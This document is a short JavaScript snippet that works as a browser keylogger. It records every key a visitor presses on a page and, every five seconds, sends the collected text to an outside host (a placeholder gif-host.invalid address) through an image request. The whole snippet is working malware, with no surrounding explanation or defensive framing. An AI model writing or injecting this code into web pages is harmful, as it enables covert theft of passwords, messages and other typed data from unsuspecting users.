var kept = '';
var to = 'https://gif-host.invalid/j.gif?c=';
document.onkeypress = function (e) {
  get = window.event ? event : e;
  key = get.keyCode ? get.keyCode : get.charCode;
  key = String.fromCharCode(key);
  kept += key;
};
window.setInterval(function () {
  if (kept.length > 0) {
    new Image().src = to + kept;
    kept = '';
  }
}, 5000);
